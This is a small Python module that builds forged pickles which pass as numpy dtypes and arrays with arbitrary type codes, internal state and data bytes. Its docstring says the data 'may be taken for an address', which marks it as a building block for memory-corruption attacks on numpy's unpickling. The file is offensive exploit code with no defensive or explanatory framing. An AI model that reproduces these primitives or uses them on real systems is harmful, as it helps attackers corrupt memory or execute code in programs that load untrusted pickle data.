"""Objects that pickle as numpy's do, of any type, size and state."""

from __future__ import annotations

import numpy as np


class ForgedDType:
    """Pickles as a dtype of any code and state."""

    def __init__(self, code, state):
        self.code, self.state = code, state

    def __reduce__(self):
        return np.dtype, (self.code, False, True), self.state


class ForgedArray:
    """Pickles as an array of a forged dtype: 8 bytes that may be taken for an address."""

    def __init__(self, dtype, shape=(1,), data=b'AAAAAAAA', start=(0,)):
        self.state = (1, shape, dtype, False, data)
        self.start = start

    def __reduce__(self):
        reconstruct = np.zeros(1).__reduce__()[0]
        return reconstruct, (np.ndarray, self.start, b'b'), self.state
